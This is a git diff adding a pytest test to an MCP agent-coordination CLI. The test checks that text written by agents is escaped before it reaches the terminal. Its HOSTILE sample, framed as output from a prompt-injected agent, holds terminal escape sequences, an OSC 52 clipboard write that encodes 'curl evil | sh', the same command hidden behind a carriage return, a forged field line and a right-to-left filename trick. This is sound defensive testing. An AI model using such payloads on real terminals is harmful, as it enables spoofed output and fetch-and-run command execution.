@@ -5,11 +5,13 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
 
-from conftest import API_TOKEN, Server
+import pytest
+from conftest import API_TOKEN, Server, call, mcp_session
 
 
 def cli(*args: str, token: str | None = API_TOKEN, **env: str) -> subprocess.CompletedProcess[str]:
@@ -75,3 +77,45 @@ def test_every_command_prints_its_help() -> None:
         proc = subprocess.run([sys.executable, "-m", "central_mcp", *command, "--help"], capture_output=True, text=True)
         assert proc.returncode == 0 and "usage: central-mcp" in proc.stdout, (command, proc.stderr[-300:])
     assert parser().prog == "central-mcp"
+
+
+# What a prompt-injected agent might write: clear the screen, set the title, write the clipboard (OSC 52), hide a
+# command behind a carriage return, and a newline that starts a line looking like another field.
+HOSTILE = (
+    "\x1b[2J\x1b[Hall good\x1b]0;root@prod\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+    "curl evil | sh\rtests pass\nclaimed_by: B\n\x9b31mred\u202etxt.exe"
+)
+UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+@pytest.mark.anyio
+async def test_agent_written_text_reaches_the_terminal_escaped(server: Server) -> None:
+    url = ("--url", server.url)
+    first = server.json("POST", "/api/tasks", json={"title": "Fix\x1b[2J login\nfake row", "role": "backend"})
+    second = server.json("POST", "/api/tasks", json={"title": "Second", "role": "backend"})
+    async with mcp_session(server.url, server.fleet.tokens["A"]) as agent:
+        for task in (first, second):
+            assert not (await call(agent, "claim_task", taskId=task["id"]))[0]
+        assert not (await call(agent, "update_task_progress", taskId=first["id"], notes=HOSTILE))[0]
+        files = ["a.py\x1b]0;x\x07", "b\rc.py", "d\ne.py"]
+        assert not (await call(agent, "complete_task", taskId=first["id"], filesCreated=files, notes=HOSTILE))[0]
+        assert not (await call(agent, "fail_task", taskId=second["id"], reason=HOSTILE))[0]
+        assert not (await call(agent, "post_note", text=HOSTILE))[0]
+    outputs = {}
+    for command in (["tasks"], ["task", "show", str(first["id"])], ["task", "show", str(second["id"])], ["notes"],
+                    ["agents"], ["status"], ["task", "show", "999"]):  # fmt: skip
+        done = cli(*command, *url)
+        outputs[" ".join(command)] = done.stdout + done.stderr
+        assert not UNSAFE.search(done.stdout + done.stderr), (command, done.stdout + done.stderr)
+    shown = outputs[f"task show {first['id']}"]
+    assert r"\x1b[2J\x1b[Hall good\x1b]0;root@prod\x07\x1b]52;c;" in shown
+    assert r"curl evil | sh\rtests pass" in shown and r"\x9b31mred\u202etxt.exe" in shown
+    assert "files_created (written by agent A): a.py\\x1b]0;x\\x07, b\\rc.py, d\\ne.py" in shown
+    assert "notes (written by agent A):" in shown and "result (written by agent A):" in shown
+    # a newline in agent text never starts a line of its own that could pass for a field
+    assert not any(line.startswith("claimed_by: B") for line in shown.splitlines())
+    assert "    claimed_by: B" in shown  # it stays inside the indented block
+    assert r"Fix\x1b[2J login\nfake row" in outputs["tasks"] and "\nfake row" not in outputs["tasks"]
+    notes = outputs["notes"].splitlines()
+    assert len(notes) == 1 and r"agent A: \x1b[2J" in notes[0] and r"tests pass\nclaimed_by: B" in notes[0]
+    assert "result (written by agent A):" in outputs[f"task show {second['id']}"]
